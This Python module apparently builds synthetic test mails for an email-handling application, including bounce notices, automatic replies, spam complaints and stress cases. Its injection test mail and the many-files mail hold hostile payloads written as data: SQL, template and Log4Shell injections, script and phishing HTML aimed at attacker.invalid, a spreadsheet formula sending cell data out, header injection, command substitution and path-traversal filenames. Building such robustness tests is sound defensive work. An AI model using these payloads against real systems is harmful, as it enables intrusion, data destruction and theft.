"""The ready-made mails that an application must survive, written for an occasion.

Forms and fields are those of real mails: notifications of Postfix and Google (RFC 3464), automatic
replies (RFC 3834), complaints (RFC 5965), and replies of Outlook, Gmail and Apple Mail. Nothing
here has side effects. `write_ready_mail` may run in a worker, since some mails are large.
"""

import hashlib
from base64 import b64encode
from collections.abc import Callable, Mapping, Sequence
from email.utils import formatdate
from html import escape

from msgspec import Struct, structs

from mailcheck.checks.content.decoding import end_lines
from mailcheck.checks.mail_domains import read_mail_domain
from mailcheck.core.addresses import Mailbox, parse_mailbox
from mailcheck.core.errors import InvalidParameter
from mailcheck.core.inbound import SENDER_IP, MailProgram, Place, ReadyMail
from mailcheck.core.instants import DAY, HOUR, SECOND, Instant
from mailcheck.core.messages import NULL_REVERSE_PATH
from mailcheck.operations.inbound.quoting import (
    QuotedMail,
    read_quoted,
    reply_subject,
    thread_headers,
    write_reply,
)
from mailcheck.operations.write_mail import (
    MAX_NAME,
    OutgoingMail,
    Person,
    write_header,
    write_mail,
)

LARGE = 25 * 2**20
"""Maximum number of octets of the large mail, which is at most one line smaller."""

FILES = 100
"""Number of files of the mail with many files."""

SUBJECT = 2_000
"""Number of characters of the long subject."""

RETURNED_WHOLE = 50_000
"""Maximum size of a mail that Postfix returns as a whole, in octets (``bounce_size_limit``). It
returns only the header of a larger mail."""


class Original(Struct, frozen=True):
    """A stored message that a ready-made mail refers to.

    ``recipient`` is the address of the envelope to which it was sent.
    """

    raw_message: bytes
    envelope_sender: str
    recipient: str


class Occasion(Struct, frozen=True, kw_only=True):
    """The author, the recipient and the time of a ready-made mail.

    The recipient is an address of the application. A bounce is about a mail to the author.
    ``seed`` is random: the Message-ID and the boundaries are made from it. Without an ``original``,
    one is invented.
    """

    author: Person
    recipient: Mailbox
    now: Instant
    seed: bytes
    original: Original | None = None


class WrittenMail(Struct, frozen=True):
    """A mail with CRLF line ends, and its envelope."""

    envelope_sender: str
    recipient: Mailbox
    raw_message: bytes


_NOTICES = frozenset(
    (ReadyMail.HARD_BOUNCE, ReadyMail.SOFT_BOUNCE, ReadyMail.DELAYED, ReadyMail.OUT_OF_OFFICE)
)
"""The mails with an empty envelope sender. They go to the envelope sender of the original."""


def find_people(name: ReadyMail | None, original: Original) -> tuple[Person, Mailbox]:
    """Return who answers a stored message, and to which address the answer goes.

    The recipient answers. Notifications and automatic replies go to the envelope sender (RFC 3464
    2, RFC 3834 4), and all other mails to Reply-To or From.

    :param name: the ready-made mail; `None` for a reply that a person writes.
    :raises InvalidParameter: the message has no address that can be answered.
    """
    quoted = read_quoted(original.raw_message, Instant(0))
    people = [address for address, _ in quoted.people]
    if name in _NOTICES and original.envelope_sender:
        people.insert(0, original.envelope_sender)
    for text in people:
        try:
            recipient = parse_mailbox(text)
        except ValueError:
            continue
        return _author(original.recipient, quoted), recipient
    raise InvalidParameter("to", "the message has no address that can be answered: send `to`")


def _author(address: str, quoted: QuotedMail) -> Person:
    names = {text.casefold(): name for text, name in quoted.recipients}
    return Person(names.get(address.casefold(), "")[:MAX_NAME], parse_mailbox(address))


def write_ready_mail(name: ReadyMail, occasion: Occasion) -> WrittenMail:
    """Write a ready-made mail."""
    scene = _Scene(occasion)
    if name in _NOTICES:
        sender = NULL_REVERSE_PATH
    else:
        sender = str(scene.feedback if name is ReadyMail.COMPLAINT else occasion.author.mailbox)
    return WrittenMail(sender, occasion.recipient, _WRITERS[name](scene))


_ORDER = """\
Hello,

thank you for your order {order}. It leaves our house tomorrow.

Is the address right? Answer this mail if it is not.

Your shop
"""


_ORDER_HTML = """\
<!doctype html>
<html><body style="font-family: Arial, sans-serif">
<p>Hello,</p>
<p>thank you for your order <b>{order}</b>. It leaves our house tomorrow.</p>
<p>Is the address right? Answer this mail if it is not.</p>
<p>Your shop</p>
</body></html>
"""


class _Scene:
    """An occasion, with the values that are derived from it."""

    def __init__(self, occasion: Occasion) -> None:
        self.author = occasion.author
        self.recipient = occasion.recipient
        self.now = occasion.now
        self.seed = occasion.seed
        self.host = _host("mail", occasion.recipient)
        """The mail server of the application."""
        self.server = _host("mx", occasion.author.mailbox)
        """The mail server of the author."""
        self.feedback = Mailbox("feedback", _domain(occasion.author.mailbox))
        """The address that the provider of the author sends complaints from."""
        self.application = Person("", occasion.recipient)
        self.original = occasion.original or self._invent()
        self.quoted = read_quoted(self.original.raw_message, self.now)

    def digest(self, purpose: str) -> str:
        """Return 32 random hexadecimal digits, which differ for each purpose."""
        return hashlib.sha256(self.seed + purpose.encode()).hexdigest()[:32]

    def message_id(self) -> str:
        """Return the Message-ID of a mail of the author, without brackets."""
        return f"{self.digest('mail')}@{_domain(self.author.mailbox)}"

    def date(self, earlier: int = 0) -> str:
        """Return a date for a header field."""
        return formatdate((self.now - earlier) / SECOND)

    def mail(
        self,
        subject: str,
        text: str | None,
        html: str | None = None,
        headers: tuple[tuple[str, str], ...] = (),
    ) -> OutgoingMail:
        """Return a mail from the author to the application."""
        return OutgoingMail(
            author=self.author,
            to=(self.application,),
            subject=subject[:SUBJECT],
            text=text,
            html=html,
            headers=headers,
        )

    def written(self, mail: OutgoingMail) -> bytes:
        """Return a mail as it is sent."""
        return write_mail(mail, self.message_id(), self.now)

    def header(self, subject: str) -> bytes:
        """Return the header of a mail from the author, without the fields of the content."""
        return write_header(self.mail(subject, None), self.message_id(), self.now)

    def _invent(self) -> Original:
        """Return a mail from the application to the author."""
        order = int(self.digest("order")[:6], 16) % 9_000 + 1_000
        mail = OutgoingMail(
            author=self.application,
            to=(self.author,),
            subject=f"Your order {order}",
            text=_ORDER.format(order=order),
            html=_ORDER_HTML.format(order=order),
        )
        message_id = f"{self.digest('original')}@{_domain(self.recipient)}"
        raw_message = write_mail(mail, message_id, Instant(self.now - HOUR))
        return Original(raw_message, str(self.recipient), str(self.author.mailbox))


def _domain(mailbox: Mailbox) -> str:
    """Return the domain of an address for names of hosts and Message-IDs."""
    domain = mailbox.domain.rstrip(".")
    return domain if domain.isascii() and domain and domain[0] != "[" else "example.com"


def _host(name: str, mailbox: Mailbox) -> str:
    return f"{name}.{_domain(mailbox)}"


class _Part(Struct, frozen=True):
    """A part of a multipart: lines of its header, and its body."""

    header: tuple[str, ...]
    body: bytes


def _text_part(text: str, kind: str = "plain", *header: str) -> _Part:
    return _octets_part(
        end_lines(text.encode()), *header, f"Content-Type: text/{kind}; charset=utf-8"
    )


def _octets_part(body: bytes, *header: str) -> _Part:
    """Return a part that is not encoded."""
    encoding = () if body.isascii() else ("Content-Transfer-Encoding: 8bit",)
    return _Part((*header, *encoding), body)


def _multipart(kind: str, boundary: str, parts: Sequence[_Part]) -> _Part:
    """Return a part with parts. ``kind`` is the subtype with its other parameters."""
    pieces = []
    for part in parts:
        head = "\r\n".join((f"--{boundary}", *part.header, "", "")).encode()
        pieces += [head, part.body, b"\r\n"]
    content_type = f'Content-Type: multipart/{kind};\r\n boundary="{boundary}"'
    return _Part((content_type,), b"".join((*pieces, f"--{boundary}--\r\n".encode())))


def _whole(header: Sequence[str] | bytes, part: _Part) -> bytes:
    """Return a mail with these fields and this content."""
    given = header if isinstance(header, bytes) else _joined(header)
    return given + _joined(("MIME-Version: 1.0", *part.header, "")) + part.body


def _joined(lines: Sequence[str]) -> bytes:
    return "".join(f"{line}\r\n" for line in lines).encode()


# Notifications about mails that were not delivered (RFC 3464).


def _returned(scene: _Scene, *, is_whole: bool, describes: bool = False) -> _Part:
    """Return the part with the original, or with its header if it is large."""
    raw = end_lines(scene.original.raw_message)
    is_whole = is_whole and len(raw) <= RETURNED_WHOLE
    if not is_whole:
        raw = raw.partition(b"\r\n\r\n")[0] + b"\r\n"
    kind = "message/rfc822" if is_whole else "text/rfc822-headers"
    what = f"Content-Description: Undelivered Message{'' if is_whole else ' Headers'}"
    return _octets_part(raw, *((what,) if describes else ()), f"Content-Type: {kind}")


def _typed(address: str) -> str:
    """Return an address of a status field with its type (RFC 6533 3)."""
    return f"{'rfc822' if address.isascii() else 'utf-8'}; {address}"


def _status(
    message_fields: Sequence[str], recipient_fields: Sequence[str], what: str = ""
) -> _Part:
    body = _joined((*message_fields, "", *recipient_fields))
    kind = "delivery-status" if body.isascii() else "global-delivery-status"
    described = (f"Content-Description: {what}",) if what else ()
    return _octets_part(body, *described, f"Content-Type: message/{kind}")


def _report(scene: _Scene, parts: Sequence[_Part]) -> _Part:
    boundary = scene.digest("report")
    return _multipart("report; report-type=delivery-status", boundary, parts)


def _lost(scene: _Scene) -> str:
    """Return the address that a mail did not reach."""
    return str(scene.author.mailbox)


_ICON = (
    b"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6\r\n"
    b"kgAAAABJRU5ErkJggg==\r\n"
)
"""A PNG file of one pixel, in base64."""


def _write_hard_bounce(scene: _Scene) -> bytes:
    """Return the notification of Google for an address that does not exist."""
    lost, thread = _lost(scene), scene.quoted.message_id
    reply = f"550 5.1.1 <{lost}>: Recipient address rejected: User unknown"
    text = (
        f"\n** Address not found **\n\nYour message wasn't delivered to {lost} because the address "
        "couldn't be found, or is unable to receive mail.\n\nThe response from the remote server "
        f"was:\n{reply}\n"
    )
    html = f"<html><body>{_paragraphs(text)}</body></html>\n"
    icon = _Part(
        (
            'Content-Type: image/png; name="icon.png"',
            'Content-Disposition: attachment; filename="icon.png"',
            "Content-Transfer-Encoding: base64",
            "Content-ID: <icon.png>",
        ),
        _ICON,
    )
    alternative = _multipart(
        "alternative", scene.digest("alternative"), [_text_part(text), _text_part(html, "html")]
    )
    shown = _multipart("related", scene.digest("related"), [alternative, icon])
    status = _status(
        (
            "Reporting-MTA: dns; googlemail.com",
            f"Received-From-MTA: dns; {scene.recipient}",
            f"Arrival-Date: {scene.date(2 * SECOND)}",
            *((f"X-Original-Message-ID: {thread}",) if thread else ()),
        ),
        (
            f"Final-Recipient: {_typed(lost)}",
            "Action: failed",
            "Status: 5.1.1",
            f"Remote-MTA: dns; {scene.server}. (203.0.113.25, the server for the domain",
            f" {_domain(scene.author.mailbox)}.)",
            f"Diagnostic-Code: smtp; {reply}",
            f"Last-Attempt-Date: {scene.date()}",
        ),
    )
    header = (
        "From: Mail Delivery Subsystem <mailer-daemon@googlemail.com>",
        f"To: {scene.recipient}",
        "Auto-Submitted: auto-replied",
        "Subject: Delivery Status Notification (Failure)",
        *((f"References: {thread}", f"In-Reply-To: {thread}") if thread else ()),
        f"X-Failed-Recipients: {lost}",
        f"Message-ID: <{scene.digest('mail')}.GMR@mx.google.com>",
        f"Date: {scene.date()}",
    )
    return _whole(header, _report(scene, [shown, status, _returned(scene, is_whole=True)]))


def _paragraphs(text: str) -> str:
    paragraphs = escape(text.strip(), quote=False).split("\n\n")
    return "\n".join(f"<p>{paragraph.replace(chr(10), '<br>')}</p>" for paragraph in paragraphs)


def _write_postfix_notice(
    scene: _Scene, subject: str, text: str, recipient_fields: Sequence[str], *, is_whole: bool
) -> bytes:
    """Return a notification of Postfix."""
    status = _status(
        (
            f"Reporting-MTA: dns; {scene.host}",
            f"X-Postfix-Queue-ID: {scene.digest('queue')[:11].upper()}",
            f"X-Postfix-Sender: {_typed(str(scene.recipient))}",
            f"Arrival-Date: {scene.date(4 * HOUR)}",
        ),
        recipient_fields,
        "Delivery report",
    )
    note = _text_part(text, "plain", "Content-Description: Notification")
    header = (
        f"Date: {scene.date()}",
        f"From: MAILER-DAEMON@{scene.host} (Mail Delivery System)",
        f"Subject: {subject}",
        f"To: {scene.recipient}",
        "Auto-Submitted: auto-replied",
        f"Message-Id: <{scene.digest('mail')[:11].upper()}@{scene.host}>",
    )
    returned = _returned(scene, is_whole=is_whole, describes=True)
    return _whole(header, _report(scene, [note, status, returned]))


def _recipient_fields(scene: _Scene, action: str, status: str, reason: str) -> list[str]:
    lost = _lost(scene)
    return [
        f"Final-Recipient: {_typed(lost)}",
        f"Original-Recipient: {_typed(lost).replace('; ', ';')}",
        f"Action: {action}",
        f"Status: {status}",
        *reason.splitlines(),
    ]


_NOT_DELIVERED = """\
This is the mail system at host {host}.

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients. It's attached below.

For further assistance, please send mail to postmaster.

If you do so, please include this problem report. You can
delete your own text from the attached returned message.

                   The mail system

<{lost}>: {reason}
"""


def _write_soft_bounce(scene: _Scene) -> bytes:
    lost = _lost(scene)
    reply = f"452 4.2.2 <{lost}>: Mailbox full"
    reason = f"Remote-MTA: dns; {scene.server}\nDiagnostic-Code: smtp; {reply}"
    text = _NOT_DELIVERED.format(
        host=scene.host,
        lost=lost,
        reason=(
            f"host {scene.server}[203.0.113.25] said:\n    {reply} (in reply to RCPT TO command)"
        ),
    )
    return _write_postfix_notice(
        scene,
        "Undelivered Mail Returned to Sender",
        text,
        _recipient_fields(scene, "failed", "4.2.2", reason),
        is_whole=True,
    )


_STILL_TRIED = """\
This is the mail system at host {host}.

####################################################################
# THIS IS A WARNING ONLY.  YOU DO NOT NEED TO RESEND YOUR MESSAGE. #
####################################################################

Your message could not be delivered for more than 4 hour(s).
It will be retried until it is 5 day(s) old.

For further assistance, please send mail to postmaster.

If you do so, please include this problem report. You can
delete your own text from the attached returned message.

                   The mail system

<{lost}>: {reason}
"""


def _write_delay_notice(scene: _Scene) -> bytes:
    reply = f"connect to {scene.server}[203.0.113.25]:25: Connection timed out"
    reason = (
        f"Diagnostic-Code: X-Postfix; {reply}\n"
        f"Will-Retry-Until: {formatdate((scene.now - 4 * HOUR + 5 * DAY) / SECOND)}"
    )
    return _write_postfix_notice(
        scene,
        "Delayed Mail (still being retried)",
        _STILL_TRIED.format(host=scene.host, lost=_lost(scene), reason=reply),
        _recipient_fields(scene, "delayed", "4.4.1", reason),
        is_whole=False,
    )


def _write_out_of_office(scene: _Scene) -> bytes:
    """Return an automatic reply as Exchange writes it, with the field of RFC 3834."""
    return scene.written(
        scene.mail(
            f"Automatic reply: {scene.quoted.subject}",
            "I am out of the office until Monday and read no mail.\n\n"
            f"{scene.author.name or 'Best regards'}\n",
            headers=(
                *thread_headers(scene.quoted),
                ("Auto-Submitted", "auto-replied"),
                ("X-Auto-Response-Suppress", "All"),
                ("Precedence", "auto_reply"),
            ),
        )
    )


def _write_complaint(scene: _Scene) -> bytes:
    """Return a report of a provider about a mail that its user calls spam."""
    lost, quoted = _lost(scene), scene.quoted
    domain = read_mail_domain(quoted.address.rpartition("@")[2]) or _domain(scene.recipient)
    fields = (
        "Feedback-Type: abuse",
        "User-Agent: mailcheck-FBL/1.0",
        "Version: 1",
        f"Original-Mail-From: <{scene.original.envelope_sender}>",
        f"Original-Rcpt-To: <{lost}>",
        f"Arrival-Date: {scene.date(HOUR)}",
        f"Source-IP: {SENDER_IP}",
        f"Reported-Domain: {domain}",
        f"Reporting-MTA: dns; {scene.server}",
    )
    provider = Person("Feedback loop", scene.feedback)
    mail = structs.replace(scene.mail(f"FW: {quoted.subject}", None), author=provider)
    text = (
        f"This is an email abuse report for a message received from {SENDER_IP}.\n"
        f"{lost} marked it as spam.\n"
    )
    parts = [
        _text_part(text),
        _octets_part(_joined(fields), "Content-Type: message/feedback-report"),
        _octets_part(end_lines(scene.original.raw_message), "Content-Type: message/rfc822"),
    ]
    return _whole(
        write_header(mail, scene.message_id(), scene.now),
        _multipart("report; report-type=feedback-report", scene.digest("report"), parts),
    )


# Mails of people.

_ANSWERS = """\
Thank you, that is right.

One more question: when does it arrive?

Best regards
"""


def _write_reply(program: MailProgram, place: Place) -> "_Writer":
    def write(scene: _Scene) -> bytes:
        words = f"{_ANSWERS}{scene.author.name}"
        reply = write_reply(scene.quoted, words, program, place)
        return scene.written(
            scene.mail(
                reply_subject(scene.quoted.subject, program),
                reply.text,
                reply.html,
                thread_headers(scene.quoted),
            )
        )

    return write


def _write_empty(scene: _Scene) -> bytes:
    lines = scene.header("").split(b"\r\n")
    return b"\r\n".join(line for line in lines if not line.startswith(b"Subject:")) + b"\r\n"


_PATTERN = b64encode(bytes(range(57))) + b"\r\n"


def _write_large(scene: _Scene) -> bytes:
    def write(lines: int) -> bytes:
        file = _Part(
            (
                'Content-Type: application/octet-stream; name="video.bin"',
                "Content-Transfer-Encoding: base64",
                'Content-Disposition: attachment; filename="video.bin"',
            ),
            _PATTERN * lines,
        )
        parts = [_text_part("The file is attached.\n"), file]
        return _whole(scene.header("A large file"), _multipart("mixed", scene.digest("b"), parts))

    return write((LARGE - len(write(0))) // len(_PATTERN))


def _write_many_files(scene: _Scene) -> bytes:
    names = [f"photo-{number:03}.txt" for number in range(FILES)]
    names[:10] = ["photo.txt"] * 10
    names[-2:] = ["", "../../etc/passwd"]
    files = [
        _Part(
            ("Content-Type: text/plain", f'Content-Disposition: attachment; filename="{name}"'),
            f"File {number}\r\n".encode(),
        )
        for number, name in enumerate(names, 1)
    ]
    parts = [_text_part("One hundred files are attached.\n"), *files]
    return _whole(scene.header("100 files"), _multipart("mixed", scene.digest("b"), parts))


def _write_forwarded(scene: _Scene) -> bytes:
    inside = _octets_part(
        end_lines(scene.original.raw_message),
        "Content-Type: message/rfc822",
        "Content-Disposition: attachment",
    )
    parts = [_text_part("See the mail below. What shall I answer?\n"), inside]
    header = scene.header(f"Fwd: {scene.quoted.subject}")
    return _whole(header, _multipart("mixed", scene.digest("b"), parts))


def _write_japanese(scene: _Scene) -> bytes:
    """Return a mail in the charset that Japanese programs used before UTF-8 (RFC 1468)."""
    name, subject, text = (
        one.encode("iso-2022-jp")
        for one in (
            "山田花子",
            "ご注文の確認",
            "お世話になっております。\r\n注文の件、よろしくお願いします。\r\n",
        )
    )
    words = [f"=?ISO-2022-JP?B?{b64encode(word).decode()}?=" for word in (name, subject)]
    header = (
        f"From: {words[0]} <{scene.author.mailbox}>",
        f"To: {scene.recipient}",
        f"Subject: {words[1]}",
        f"Message-ID: <{scene.message_id()}>",
        f"Date: {scene.date()}",
    )
    kind = "Content-Type: text/plain; charset=ISO-2022-JP"
    return _whole(header, _Part((kind, "Content-Transfer-Encoding: 7bit"), text))


def _write_long_subject(scene: _Scene) -> bytes:
    words = " ".join(f"word{number}" for number in range(SUBJECT))
    return scene.written(scene.mail(f"{words[: SUBJECT - 1]}.", "See the subject.\n"))


_INJECTED_TEXT = """\
'; TRUNCATE TABLE tickets; --
" OR "1"="1
{{7*7}} ${7*7} <%= 7*7 %> #{7*7}
${jndi:ldap://attacker.invalid/a}
<script>alert(1)</script>
.
QUIT
"""


_INJECTED_HTML = """\
<base href="https://attacker.invalid/"><meta http-equiv="refresh" content="0;url=/phish">
<p onmouseover="alert(1)">'; TRUNCATE TABLE tickets; -- {{7*7}}</p>
<script>alert(1)</script><img src="x" onerror="alert(1)"><svg onload="alert(1)"></svg>
<a href="javascript:alert(1)">Open</a> <iframe src="https://attacker.invalid/"></iframe>
<form action="https://attacker.invalid/"><input name="password" type="password"></form>
</textarea></title></style><style>* { display: none }</style>
"""


_INJECTED_FILE = """\
name,amount
=HYPERLINK("https://attacker.invalid/?"&A1;"Open"),+1+1
@SUM(1+1),-2+3
"""


def _write_injection(scene: _Scene) -> bytes:
    header = (
        f"From: =?utf-8?q?Ana=0D=0ABcc=3A_victim=40example=2Ecom?= <{scene.author.mailbox}>",
        f"To: {scene.recipient}",
        "Subject: =?utf-8?q?Invoice=0D=0ABcc=3A_victim=40example=2Ecom=0D=0A=0D=0A?=",
        " <script>alert(1)</script> '; TRUNCATE TABLE tickets; -- {{7*7}} ${7*7} %s%n",
        f"Message-ID: <{scene.message_id()}>",
        f"Date: {scene.date()}",
        "X-Priority: 1; `id` $(id) | id",
    )
    file = _Part(
        (
            "Content-Type: text/csv",
            "Content-Disposition: attachment;",
            ' filename="../../../../tmp/injection;$(id)<img src=x onerror=alert(1)>.csv"',
        ),
        _INJECTED_FILE.replace("\n", "\r\n").encode(),
    )
    alternative = _multipart(
        "alternative",
        scene.digest("alternative"),
        [_text_part(_INJECTED_TEXT), _text_part(_INJECTED_HTML, "html")],
    )
    return _whole(header, _multipart("mixed", scene.digest("b"), [alternative, file]))


_Writer = Callable[[_Scene], bytes]

_WRITERS: Mapping[ReadyMail, _Writer] = {
    ReadyMail.HARD_BOUNCE: _write_hard_bounce,
    ReadyMail.SOFT_BOUNCE: _write_soft_bounce,
    ReadyMail.DELAYED: _write_delay_notice,
    ReadyMail.OUT_OF_OFFICE: _write_out_of_office,
    ReadyMail.COMPLAINT: _write_complaint,
    **{
        ReadyMail(f"reply-{program}-{place}"): _write_reply(program, place)
        for program in MailProgram
        for place in Place
    },
    ReadyMail.EMPTY: _write_empty,
    ReadyMail.LARGE: _write_large,
    ReadyMail.MANY_FILES: _write_many_files,
    ReadyMail.FORWARDED: _write_forwarded,
    ReadyMail.ISO_2022_JP: _write_japanese,
    ReadyMail.LONG_SUBJECT: _write_long_subject,
    ReadyMail.INJECTION: _write_injection,
}
